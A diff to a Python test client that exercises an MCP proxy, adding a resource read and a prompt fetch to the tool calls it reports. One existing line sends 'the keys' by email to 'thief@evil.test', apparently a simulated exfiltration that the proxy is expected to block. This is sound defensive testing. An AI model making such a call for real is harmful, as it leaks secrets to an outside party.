@@ -3,7 +3,8 @@ official Python MCP SDK's stdio client, and print one JSON line with what it
 saw, for tests/cli/proxy.rs to check.
 
 Usage: python tests/mcp_proxy_client.py BINARY PINS SENT_LOG PHASE, where
-PHASE is `first` (list, call, elicit, log, ping, confirm, fence, block) or
+PHASE is `first` (list, call, elicit, log, ping, confirm, fence, block,
+read a resource, get a prompt) or
 `listing` (only list the tools: the test changes a description between
 runs)."""
 import asyncio
@@ -12,6 +13,7 @@ import os
 import sys
 
 from mcp import ClientSession, StdioServerParameters, types
+from pydantic import AnyUrl
 from mcp.client.stdio import stdio_client
 
 BINARY, PINS, SENT_LOG, PHASE = sys.argv[1:5]
@@ -57,6 +59,8 @@ async def main():
                 page = await session.call_tool("fetch_page", {"url": "https://news.test/lisbon"})
                 blocked = await session.call_tool("send_email", {"to": "thief@evil.test", "body": "the keys"})
                 withheld = await session.call_tool("lookup", {"word": "x"})
+                resource = await session.read_resource(AnyUrl("file:///notes.txt"))
+                prompt = await session.get_prompt("review", {"file": "a.rs"})
                 report.update({
                     "add": text(add),
                     "greet": text(greet),
@@ -70,6 +74,8 @@ async def main():
                     "blocked_error": blocked.isError,
                     "withheld": text(withheld),
                     "withheld_error": withheld.isError,
+                    "resource": [[str(c.uri), c.mimeType, c.text] for c in resource.contents],
+                    "prompt": [[m.role, m.content.text] for m in prompt.messages],
                 })
             print(json.dumps(report))
 
